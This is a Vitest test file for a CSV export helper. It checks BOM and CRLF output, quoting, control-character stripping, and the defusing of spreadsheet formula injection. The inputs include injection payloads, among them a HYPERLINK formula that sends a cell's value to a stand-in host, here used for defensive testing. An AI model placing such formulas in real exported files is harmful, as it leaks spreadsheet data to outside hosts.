// CSV for spreadsheets: BOM, CRLF, quoting, and formula injection defused.
import { createRequire } from 'node:module';
import { describe, expect, it } from 'vitest';

const { csvCell, toCsv } = createRequire(import.meta.url)('./csv.js') as {
  csvCell: (value: unknown) => string;
  toCsv: (rows: unknown[][]) => string;
};

describe('csv', () => {
  it('starts with a BOM and ends every row with CRLF', () => {
    expect(
      toCsv([
        ['a', 'b'],
        [1, 2],
      ]),
    ).toBe('\ufeffa,b\r\n1,2\r\n');
  });

  it('quotes commas and quotes', () => {
    expect(csvCell('Lê, Thị')).toBe('"Lê, Thị"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
  });

  it.each(['=1+1', '+1', '-1', '@SUM(A1)', '＝1+1', '＋1', '－1', '＠SUM(A1)'])(
    'defuses %j with a leading quote',
    (value) => {
      expect(csvCell(value)).toBe(`'${value}`);
    },
  );

  it.each([
    ['\u0000=HYPERLINK("http://x.test/?"&B3,"Open")', `"'=HYPERLINK(""http://x.test/?""&B3,""Open"")"`],
    ['  =1+1', "'  =1+1"],
    ['\u00a0\u3000@x', "'\u00a0\u3000@x"],
    ['\u200b\ufeff-1', "'\u200b\ufeff-1"],
    ['\t=1+1', "' =1+1"],
    ['\r\n+1', "'  +1"],
    ['\u001b\u007f\u0085＝1', "'＝1"],
  ])('defuses a formula behind blanks and control characters: %j', (value, cell) => {
    expect(csvCell(value)).toBe(cell);
  });

  it('drops control characters; a tab or line break becomes a space, so words stay apart', () => {
    expect(csvCell('a\u0000b\u0007c')).toBe('abc');
    expect(csvCell('a\nb')).toBe('a b');
    expect(csvCell('a\r\nb\tc')).toBe('a  b c');
    expect(csvCell('Zoë\u0000')).toBe('Zoë');
  });

  it('writes numbers, blanks and plain text as they are', () => {
    expect(csvCell(-3)).toBe('-3');
    expect(csvCell(null)).toBe('');
    expect(csvCell('library')).toBe('library');
    expect(csvCell('a-b=c')).toBe('a-b=c');
    expect(csvCell('  ')).toBe('  ');
  });
});
